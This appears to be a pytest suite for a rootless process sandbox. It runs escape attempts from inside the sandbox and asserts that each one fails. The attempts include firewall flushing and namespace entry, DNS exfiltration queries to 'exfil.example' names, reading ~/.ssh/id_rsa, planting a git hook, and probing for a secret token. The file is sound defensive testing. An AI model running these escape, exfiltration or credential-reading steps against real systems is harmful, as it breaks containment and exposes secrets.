"""The rootless jail, run by a user without root: the strong mode's bypass attempts from inside (each must
fail, and its target must see nothing), the filesystem rules, and what is left afterwards (nothing).

Creating the user and running as it needs root, which CI has.
"""

from __future__ import annotations

import asyncio
import ipaddress
import json
import os
import pwd
import shutil
import signal
import socket
import stat
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

import jail
import jail.platform
from jail.model import JailError
from jail.platform import rootless, select_backend
from jail.platform.rootless import rootless_unavailable
from jail.proxy.dns import SYNTHETIC_NETWORK
from tests.conftest import DENIED_NAME, PYTHON, TEST_NAME, UPSTREAM_HOST, host_addresses, wait_for

USER = "jail-rootless-test"
unavailable = rootless_unavailable()
pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="making the test user and running as it needs root (CI has it)"),
    pytest.mark.skipif(unavailable is not None, reason=f"rootless jail unavailable: {unavailable}"),
]
RUNUSER = shutil.which("runuser") or "/usr/sbin/runuser"


def _open_traversal(paths: list[Path]) -> list[tuple[Path, int]]:
    """Let other users pass through every directory on the way to `paths` (a pyenv under /root is 700);
    returns what to restore."""
    changed = []
    for path in paths:
        for directory in [path, *path.parents] if path.is_dir() else path.parents:
            mode = directory.stat().st_mode
            if not mode & stat.S_IXOTH:
                os.chmod(directory, mode | stat.S_IXOTH)
                changed.append((directory, stat.S_IMODE(mode)))
    return changed


@dataclass
class RootlessUser:
    entry: pwd.struct_passwd
    workspace: Path
    upstream_ca: Path

    @property
    def uid(self) -> int:
        return self.entry.pw_uid

    def environment(self) -> dict[str, str]:
        return {
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "HOME": self.entry.pw_dir,
            "LANG": "C.UTF-8",
            "JAIL_CA_DIR": str(self.workspace.parent / "ca"),
        }

    def popen(self, argv: list[str], **kwargs) -> subprocess.Popen:
        return subprocess.Popen(
            [RUNUSER, "-u", USER, "--", *argv],
            env=self.environment(),
            cwd=self.workspace,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            **kwargs,
        )

    def run(self, argv: list[str], timeout: float = 60) -> subprocess.CompletedProcess:
        process = self.popen(argv)
        try:
            stdout, stderr = process.communicate(timeout=timeout)
        finally:
            process.kill()
        return subprocess.CompletedProcess(argv, process.returncode, stdout, stderr)

    def jail_argv(self, *args: str) -> list[str]:
        upstream = ("--upstream-ca", str(self.upstream_ca), "--allow-private", f"{UPSTREAM_HOST}/32")
        return [sys.executable, "-m", "jail", *upstream, *args]

    def jail(self, *args: str, timeout: float = 60) -> subprocess.CompletedProcess:
        return self.run(self.jail_argv(*args), timeout=timeout)

    def python(self, code: str, *flags: str) -> subprocess.CompletedProcess:
        return self.jail(*flags, "--", PYTHON, "-c", textwrap.dedent(code))

    def processes(self) -> list[psutil.Process]:
        return [p for p in psutil.process_iter(["uids"]) if p.info["uids"] and p.info["uids"].real == self.uid]

    def leftover_dirs(self) -> list[str]:
        return sorted(
            p.name for p in Path(tempfile.gettempdir()).glob("jail-*") if p.is_dir() and p.stat().st_uid == self.uid
        )


@pytest.fixture(scope="module")
def user(test_ca_file: Path) -> Iterator[RootlessUser]:
    created = False
    try:
        entry = pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(["useradd", "--create-home", "--shell", "/bin/sh", USER], check=True, capture_output=True)
        created, entry = True, pwd.getpwnam(USER)
    base = Path(tempfile.mkdtemp(prefix="rootless-test-"))
    workspace = base / "work"
    workspace.mkdir()
    upstream_ca = base / "upstream-ca.pem"
    shutil.copy(test_ca_file, upstream_ca)
    for path in (base, workspace, upstream_ca):
        os.chown(path, entry.pw_uid, entry.pw_gid)
    base.chmod(0o755)
    needed = [Path(sys.executable), Path(sys.executable).resolve(), Path(jail.__file__).resolve().parent]
    needed += [Path(sysconfig.get_path(name)) for name in ("purelib", "platlib", "stdlib")]
    changed = _open_traversal(needed)
    try:
        subject = RootlessUser(entry, workspace, upstream_ca)
        check = subject.run([sys.executable, "-c", "import jail.cli, mitmproxy, py_mini_racer"])
        assert check.returncode == 0, f"the test user cannot run jail's interpreter: {check.stderr}"
        yield subject
    finally:
        for directory, mode in reversed(changed):
            os.chmod(directory, mode)
        shutil.rmtree(base, ignore_errors=True)
        if created:
            subprocess.run(["userdel", "--remove", USER], capture_output=True)


def test_runs_rootless_as_the_callers_uid_and_files_stay_theirs(user):
    result = user.jail("--js", "true", "--", "sh", "-c", "id -u; id -g; echo made > made-inside.txt")
    assert result.returncode == 0, result.stderr
    assert "weak" not in result.stderr
    assert result.stdout.split() == [str(user.uid), str(user.entry.pw_gid)]
    made = user.workspace / "made-inside.txt"
    assert (made.stat().st_uid, made.stat().st_gid) == (user.uid, user.entry.pw_gid)


RULE = f"r.path.startsWith('/allowed') && r.host !== '{DENIED_NAME}'"


def test_proxy_variables_allowed_and_denied_over_http_and_https(user, http_upstream, https_upstream):
    codes = []
    for upstream in (http_upstream, https_upstream):
        for path in ("/allowed", "/denied"):
            url = upstream.url(path)
            codes.append(f"curl -s -m 10 -o /dev/null -w '%{{http_code}} ' {url}")
    result = user.jail("--js", RULE, "--", "sh", "-c", "; ".join(codes))
    assert result.stdout.split() == ["200", "403", "200", "403"], result.stderr
    for upstream in (http_upstream, https_upstream):
        assert [r["path"] for r in upstream.requests] == ["/allowed"]


def test_client_ignoring_proxy_variables_is_intercepted_and_judged(user, named_upstreams):
    http, https = named_upstreams
    calls = [
        f"curl -s -m 10 --noproxy '*' -o /dev/null -w '%{{http_code}} ' {scheme}://{name}/allowed"
        for scheme in ("http", "https")
        for name in (TEST_NAME, DENIED_NAME)
    ]
    result = user.jail("--js", RULE, "--", "sh", "-c", "; ".join(calls))
    assert result.stdout.split() == ["200", "403", "200", "403"], result.stderr
    for upstream in (http, https):
        assert [r["host"] for r in upstream.requests] == [TEST_NAME]


PROBE = """
import json, socket, time
def tcp(host, port):
    start = time.monotonic()
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.settimeout(5)
        # Any TCP port of any address reaches jail, which closes a stream the rule denies: "answered"
        # only if a byte came from somewhere.
        outcome = "answered" if s.recv(1) else "closed"
        s.close()
    except OSError as e:
        outcome = type(e).__name__
    return outcome, round(time.monotonic() - start, 2)
"""


def test_direct_tcp_and_udp_fail_fast_and_reach_nothing(user, listener):
    targets = [*host_addresses(), UPSTREAM_HOST, "192.0.2.1", "198.18.0.1"]
    code = PROBE + textwrap.dedent(f"""
        results = {{}}
        for host in {targets!r}:
            results[host] = tcp(host, {listener.port})
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                udp.sendto(b"leak", (host, {listener.port}))
            except OSError:
                pass
        results["v6"] = tcp("2001:db8::1", 443)
        print(json.dumps(results))
    """)
    result = user.python(code, "--js", "r.scheme !== 'tcp'")
    results = json.loads(result.stdout)
    for target, (outcome, seconds) in results.items():
        assert outcome != "answered", target
        assert seconds < 2, (target, seconds)
    time.sleep(0.5)
    assert listener.seen == []


DNS_PROBE = """
import json, socket, struct
def ask(server, name):
    query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    query += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\\0"
    query += struct.pack(">HH", 1, 1)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(3)
    try:
        udp.sendto(query, (server, 53))
        reply = udp.recv(512)
    except OSError as e:
        return type(e).__name__
    return socket.inet_ntoa(reply[-4:])
print(json.dumps({
    "jail": ask("127.0.0.1", "secret-one.exfil.example"),
    "outside": ask("8.8.8.8", "secret-two.exfil.example"),
    "resolver": socket.gethostbyname("secret-three.exfil.example"),
}))
"""


def test_dns_is_answered_inside_and_recorded(user):
    audit = user.workspace.parent / "dns-audit.jsonl"
    result = user.python(DNS_PROBE, "--js", "true", "--audit-log", str(audit))
    # Every query, to any server, is answered by jail, with an address of its own per name: nothing is
    # asked outside.
    answers = json.loads(result.stdout)
    assert all(ipaddress.ip_address(address) in SYNTHETIC_NETWORK for address in answers.values()), answers
    assert len(set(answers.values())) == 3, answers
    logged = audit.read_text()
    for name in ("secret-one.exfil.example", "secret-two.exfil.example", "secret-three.exfil.example"):
        assert name in logged


@pytest.mark.parametrize(
    "attempt",
    [
        "nft flush ruleset",
        "ip link add jailescape type veth peer name jailescape2",
        "ip route add 0.0.0.0/1 dev lo",
        "nsenter --target 1 --net true",
        "unshare --net --map-root-user ip link set lo down",
    ],
)
def test_child_cannot_change_or_leave_its_network(user, attempt, named_upstreams):
    command = f"{attempt}; echo status=$?; curl -s -m 10 --noproxy '*' -o /dev/null -w '%{{http_code}}' http://{DENIED_NAME}/x"
    result = user.jail("--js", "false", "--", "sh", "-c", command)
    status = result.stdout.split("status=")[1].split()[0]
    if attempt.startswith("unshare"):
        # A namespace of its own is harmless (it is emptier still), but the jail's own stays intact.
        assert result.stdout.rstrip().endswith("403"), result.stdout
    else:
        assert status != "0", result.stdout
        assert result.stdout.rstrip().endswith("403"), result.stdout
    assert named_upstreams[0].requests == []


def test_nothing_is_left_after_exit_or_after_sigkill(user):
    result = user.jail("--js", "true", "--", "true")
    assert result.returncode == 0, result.stderr
    assert wait_for(lambda: not user.processes(), 5), user.processes()
    assert user.leftover_dirs() == []

    process = user.popen(user.jail_argv("--js", "true", "--", "sleep", "60"))
    try:
        assert wait_for(lambda: any(p.name() == "sleep" for p in user.processes()), 15)
        jail_process = next(p for p in user.processes() if "jail" in " ".join(p.cmdline()) and p.name() != "sleep")
        jail_process.send_signal(signal.SIGKILL)
        # The child and the namespace holder die with jail; the namespaces go with them.
        assert wait_for(lambda: not user.processes(), 10), [p.cmdline() for p in user.processes()]
    finally:
        process.kill()
        process.wait()
    assert user.leftover_dirs(), "a SIGKILLed jail cannot remove its work dir itself"
    cleanup = user.jail("--cleanup")
    assert cleanup.returncode == 0, cleanup.stderr
    assert user.leftover_dirs() == []


def test_apparmors_restriction_is_tried_not_trusted(monkeypatch, tmp_path):
    # Ubuntu 24.04 restricts user namespaces unless a profile allows them for unshare: on this machine
    # (no AppArmor) the stand-in switch is on, yet unshare's namespace is capable, so the rootless mode stays.
    switch = tmp_path / "apparmor_restrict_unprivileged_userns"
    switch.write_text("1\n")
    monkeypatch.setattr(rootless, "USERNS_SWITCHES", {str(switch): "1"})
    monkeypatch.setattr(rootless, "APPARMOR_RESTRICTION", str(switch))
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    assert rootless_unavailable() is None
    # A namespace in which unshare's root may not mount is what the restriction makes: then it is refused.
    monkeypatch.setattr(rootless, "_unshare_is_capable", lambda: False)
    assert "apparmor_restrict_unprivileged_userns is 1" in rootless_unavailable()


def test_without_user_namespaces_it_refuses_unless_weak_is_allowed(monkeypatch, tmp_path, capsys):
    # The machine's switch cannot be flipped from a test (and should not be): one of its stand-ins is.
    switch = tmp_path / "max_user_namespaces"
    switch.write_text("0\n")
    monkeypatch.setattr(rootless, "USERNS_SWITCHES", {str(switch): "0"})
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    with pytest.raises(JailError) as refused:
        select_backend("0123abcd", weak=False)
    assert "unprivileged user namespaces are disabled" in str(refused.value)
    assert "--allow-weak" in str(refused.value)
    assert select_backend("0123abcd", weak=False, allow_weak=True).name == "weak"
    said = capsys.readouterr().err
    assert said.count("\n") == 1 and "weak mode (unprivileged user namespaces are disabled" in said
    switch.write_text("15000\n")
    assert select_backend("0123abcd", weak=False).name == "rootless"


def test_a_namespace_the_kernel_refuses_is_one_clear_line(monkeypatch, tmp_path):
    # What unshare says where user namespaces are blocked by AppArmor or seccomp rather than a sysctl.
    fake = tmp_path / "unshare"
    fake.write_text("#!/bin/sh\necho 'unshare: unshare failed: Operation not permitted' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(jail.platform, "TOOL_PATH", f"{tmp_path}:{jail.platform.TOOL_PATH}")
    backend = rootless.RootlessBackend("0123abcd")
    with pytest.raises(JailError) as refused:
        asyncio.run(backend.prepare())
    asyncio.run(backend.teardown())
    assert str(refused.value) == "cannot build the rootless jail: unshare: unshare failed: Operation not permitted"


SYS_GETCWD = {"x86_64": 79, "aarch64": 17}
GETCWD_PROBE = f"""
import ctypes, os, platform, subprocess
buf = ctypes.create_string_buffer(4096)
# The system call itself: glibc's getcwd() hides an "(unreachable)" answer by walking "..", musl's does not.
ctypes.CDLL(None).syscall({SYS_GETCWD}[platform.machine()], buf, 4096)
print(buf.value.decode())
print(os.getcwd())
print(subprocess.run(["/bin/pwd", "-P"], capture_output=True, text=True).stdout.strip())
print(os.readlink("/proc/self/cwd"))
"""


def getcwd_answers(result: subprocess.CompletedProcess) -> list[str]:
    assert result.returncode == 0, result.stderr
    return result.stdout.splitlines()


@pytest.mark.skipif(
    os.uname().machine not in SYS_GETCWD, reason="getcwd's system call number is known for x86_64 and aarch64"
)
@pytest.mark.parametrize("flags", [(), ("--no-fs-restrictions",)], ids=["confined", "unconfined"])
def test_getcwd_is_the_real_path(user, flags):
    answers = getcwd_answers(user.python(GETCWD_PROBE, "--js", "true", *flags))
    assert answers == [str(user.workspace)] * 4


@pytest.fixture
def repository(user) -> Path:
    """The user's workspace as a git repository, with a secret key in the user's home."""
    for path in ("made-inside.txt", "inside.txt"):
        (user.workspace / path).unlink(missing_ok=True)
    shutil.rmtree(user.workspace / ".git", ignore_errors=True)
    assert user.run(["git", "init", "-q", "."]).returncode == 0
    ssh = Path(user.entry.pw_dir) / ".ssh"
    ssh.mkdir(exist_ok=True)
    (ssh / "id_rsa").write_text("PRIVATE KEY\n")
    for path in (ssh, ssh / "id_rsa"):
        os.chown(path, user.uid, user.entry.pw_gid)
    return user.workspace


FS_SCRIPT = """
try() { if sh -c "$1" >/dev/null 2>&1; then echo "$2=ok"; else echo "$2=fail"; fi; }
try 'echo x > inside.txt' write_inside
try 'echo x > "$HOME/outside.txt"' write_outside
try 'cat "$HOME/.ssh/id_rsa"' read_ssh_key
try 'echo "#!/bin/sh" > .git/hooks/pre-commit' hook_existing_dir
try 'rm -rf .git/hooks; mkdir -p .git/hooks && echo x > .git/hooks/pre-commit' hook_missing_dir
try 'echo "[core]" >> .git/config' write_git_config
try 'git status --short' git_status
try 'git add inside.txt' git_add
"""


def test_filesystem_rules_hold_in_the_rootless_jail(user, repository):
    result = user.jail("--js", "true", "--", "sh", "-c", FS_SCRIPT)
    outcomes = dict(line.split("=") for line in result.stdout.split())
    assert outcomes == {
        "write_inside": "ok",
        "write_outside": "fail",
        "read_ssh_key": "fail",
        "hook_existing_dir": "fail",
        "hook_missing_dir": "fail",
        "write_git_config": "fail",
        "git_status": "ok",
        "git_add": "ok",
    }, result.stderr
    assert not (Path(user.entry.pw_dir) / "outside.txt").exists()
    assert not (repository / ".git" / "hooks" / "pre-commit").exists()


def test_unix_socket_outside_is_refused_unless_allowed(user):
    path = user.workspace.parent / "host-daemon.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    path.chmod(0o777)
    server.listen(8)
    server.settimeout(0.5)
    accepted: list[bool] = []

    def accept() -> None:
        for _ in range(40):
            try:
                server.accept()[0].close()
                accepted.append(True)
            except TimeoutError:
                continue
            except OSError:
                return

    watcher = threading.Thread(target=accept, daemon=True)
    watcher.start()
    code = f"""
        import socket
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect({str(path)!r}); print("connected")
        except OSError as e:
            print(type(e).__name__)
    """
    try:
        refused = user.python(code, "--js", "true")
        assert refused.stdout.strip() != "connected"
        assert accepted == []
        allowed = user.python(code, "--js", "true", "--allow-unix-socket", str(path))
        assert allowed.stdout.strip() == "connected", allowed.stderr
    finally:
        server.close()
        watcher.join()
        path.unlink(missing_ok=True)


@pytest.mark.parametrize("mode", [(), ("--weak",)], ids=["rootless", "weak"])
def test_secret_value_is_not_readable_from_jails_processes_as_a_user(user, mode):
    from tests.test_secrets import REAL, probe_for

    flags = (*mode, "--secret", "API_TOKEN=api.example.com", "--js", "true", "--")
    process = subprocess.run(
        [RUNUSER, "-u", USER, "--", *user.jail_argv(*flags, *probe_for(REAL))],
        env={**user.environment(), "API_TOKEN": REAL},
        cwd=user.workspace,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert process.returncode == 0, process.stderr
    seen = json.loads(process.stdout)
    assert seen["found"] == [], seen
    assert seen["examined"] >= 2, seen
